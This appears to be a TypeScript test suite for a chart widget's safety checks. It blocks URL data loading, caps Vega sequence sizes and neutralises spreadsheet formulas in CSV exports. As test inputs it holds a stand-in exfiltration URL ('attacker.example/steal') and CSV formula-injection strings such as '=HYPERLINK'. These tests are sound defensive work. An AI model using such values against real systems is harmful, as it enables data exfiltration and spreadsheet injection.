// Charts are specs from logs and JSON-declared tools: they load no URL, build no huge sequence, and their
// CSV exports cannot run as spreadsheet formulas (issue 12, item 7).

import assert from "node:assert/strict";
import { describe, it } from "node:test";

import * as vega from "vega";
import { compile, type TopLevelSpec } from "vega-lite";

import { neutralizeFormula, toCsv } from "../src/widgets/exports";
import { checkSequences, MAX_SEQUENCE, safeViewOptions, sequenceLength } from "../src/widgets/vegaSafety";

async function run(spec: TopLevelSpec): Promise<{ view: vega.View; errors: string[] }> {
  const errors: string[] = [];
  const view = new vega.View(vega.parse(compile(spec).spec, undefined, { ast: true }), {
    ...safeViewOptions(),
    renderer: "none",
  });
  view.logger({
    level: () => 0,
    error: (...args: unknown[]) => errors.push(args.map(String).join(" ")),
    warn: (...args: unknown[]) => errors.push(args.map(String).join(" ")), // Vega warns "Loading failed"
    info: () => undefined,
    debug: () => undefined,
  } as unknown as vega.LoggerInterface);
  try {
    await view.runAsync();
  } catch (error) {
    errors.push(String(error));
  }
  return { view, errors };
}

describe("chart specs load no URL", () => {
  it("a data url is refused without a request", async () => {
    const fetched: string[] = [];
    const realFetch = globalThis.fetch;
    globalThis.fetch = ((url: string) => {
      fetched.push(String(url));
      return Promise.reject(new Error("no network in this test"));
    }) as typeof fetch;
    try {
      const { errors } = await run({
        data: { url: "http://attacker.example/steal?x=1" },
        mark: "point",
        encoding: { x: { field: "a", type: "quantitative" } },
      });
      assert.deepEqual(fetched, []);
      assert.ok(errors.some((e) => e.includes("load nothing from URLs")), errors.join("\n"));
    } finally {
      globalThis.fetch = realFetch;
    }
  });

  it("inline rows still render", async () => {
    const { view, errors } = await run({
      data: { values: [{ a: 1 }, { a: 2 }] },
      mark: "point",
      encoding: { x: { field: "a", type: "quantitative" } },
    });
    assert.deepEqual(errors, []);
    assert.equal(view.data("source_0").length, 2);
  });
});

describe("sequences are capped", () => {
  it("counts as Vega does", () => {
    assert.equal(sequenceLength(5), 5);
    assert.equal(sequenceLength(0, 10, 3), 4);
    assert.equal(sequenceLength(10, 0, -2), 5);
    assert.equal(sequenceLength(0, 10, -1), 0);
    assert.equal(sequenceLength(0, Infinity), Infinity);
  });

  it("a sequence generator over the cap is refused before compiling", () => {
    assert.throws(() => checkSequences({ data: { sequence: { start: 0, stop: 1e9 } } }), /over the limit/);
    assert.throws(() => checkSequences({ layer: [{ data: { sequence: { start: 0, stop: 1e12, step: 2 } } }] }), /over the limit/);
    checkSequences({ data: { sequence: { start: 0, stop: MAX_SEQUENCE } } });
  });

  it("sequence() in an expression over the cap fails the chart, under it works", async () => {
    const spec = (stop: number): TopLevelSpec => ({
      data: { values: [{ a: 1 }] },
      transform: [{ calculate: `length(sequence(0, ${stop}))`, as: "n" }],
      mark: "point",
      encoding: { x: { field: "n", type: "quantitative" } },
    });
    const small = await run(spec(10));
    assert.deepEqual(small.errors, []);
    assert.equal((small.view.data("data_0") as { n: number }[])[0].n, 10);
    const huge = await run(spec(1e9));
    assert.ok(huge.errors.some((e) => e.includes("over the limit")), huge.errors.join("\n"));
  });
});

describe("CSV exports", () => {
  it("neutralises formula-like text, keeps numbers", () => {
    assert.equal(neutralizeFormula("=HYPERLINK(\"http://x\")"), "'=HYPERLINK(\"http://x\")");
    assert.equal(neutralizeFormula("+1"), "'+1");
    assert.equal(neutralizeFormula("@SUM(A1)"), "'@SUM(A1)");
    assert.equal(neutralizeFormula("\tcmd"), "'\tcmd");
    assert.equal(neutralizeFormula("dense_1"), "dense_1");
    const csv = toCsv([{ run: "-2+3", value: -0.5, "=col": 1 }]);
    assert.equal(csv, "run,value,'=col\n'-2+3,-0.5,1\n");
  });
});
